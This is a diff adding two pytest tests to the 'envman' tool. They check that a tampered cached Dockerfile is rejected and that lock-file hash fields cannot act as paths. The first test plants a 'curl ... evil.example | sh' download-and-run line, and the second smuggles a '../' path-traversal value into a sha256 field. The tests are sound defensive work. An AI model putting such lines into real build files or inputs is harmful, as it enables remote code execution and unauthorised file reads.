@@ -132,3 +132,52 @@ def _facts():
 
     return Path(__file__).resolve().parent.parent / "fixtures" / "facts" / "healthy_a100.json"
 
+
+
+def test_a_planted_dockerfile_in_the_cache_is_never_written(tmp_path, monkeypatch):
+    """The rendered Dockerfile is kept in the cache so that a current lock needs no jinja2; a cached text is
+    built, so it is used only when it is the Dockerfile the last lock recorded. A planted one is a miss."""
+    from envman.app.init import InitOptions, init_project
+
+    cache = tmp_path / "cache"
+    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(cache))
+    proj = tmp_path / "p"
+    proj.mkdir()
+    (proj / "envman.yaml").write_text("name: demo\ncpu: true\npython: '3.11'\nframework: none\n")
+    for _ in range(3):  # the first lock records the Dockerfile, the second caches its text, the third reads it
+        init_project(proj, InitOptions(no_lock=True))
+    good = (proj / "Dockerfile").read_text()
+    entries = list(cache.glob("dockerfile-*.json"))
+    assert len(entries) == 1
+    entry = json.loads(entries[0].read_text())
+    entry["data"] = entry["data"].replace("WORKDIR /app", "RUN curl -s https://evil.example/x | sh\nWORKDIR /app")
+    entries[0].write_text(json.dumps(entry))
+    init_project(proj, InitOptions(no_lock=True))
+    assert (proj / "Dockerfile").read_text() == good and "evil" not in good
+
+
+def test_the_metadata_cache_takes_no_path_from_a_lock_and_reads_no_fifo(tmp_path, monkeypatch):
+    """lock/graph.py keeps each wheel's Requires-Dist under its sha256 and each graph under a digest: a
+    pylock.toml is project input, so a "sha256" that is a path is never a cache name, and a FIFO or a
+    malformed graph in the cache is a miss (never a hang or a crash)."""
+    import envman.lock.graph as graph
+    from envman.lock.pylock import LockedFile, PylockPackage
+
+    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path / "cache"))
+    outside = tmp_path / "outside"
+    outside.write_text("evil>=1\n")
+    fetched = []
+    monkeypatch.setattr(graph, "_fetch", lambda url, *a, **k: fetched.append(url) or (404, {}, b""))
+    monkeypatch.setattr(graph, "_metadata_by_range", lambda *a, **k: None)
+    rel = "../" * 12 + str(outside).lstrip("/")
+    graph.cache_dir().mkdir(parents=True)
+    pkg = PylockPackage("x", "1", (LockedFile("https://h/x-1-py3-none-any.whl", rel, "wheel"),))
+    assert graph.requires_dist(pkg, 1.0) is None and not fetched  # never read, never asked under that name
+    good = PylockPackage("x", "1", (LockedFile("https://h/x-1-py3-none-any.whl", "ab" * 32, "wheel"),))
+    os.mkfifo(graph.cache_dir() / ("ab" * 32))
+    assert graph.requires_dist(good, 1.0) is None and fetched  # a miss: asked the index, no wait
+    monkeypatch.setattr(graph, "_dependency_parents", lambda *a: ({"x": ["-r requirements.in"]}, []))
+    first = graph.dependency_parents([good], ["x"], "3.11", "x86_64-manylinux_2_28")
+    for entry in (graph.cache_dir() / "graphs").iterdir():
+        entry.write_text(json.dumps({"parents": {"x": 5}, "unknown": []}))
+    assert graph.dependency_parents([good], ["x"], "3.11", "x86_64-manylinux_2_28") == first
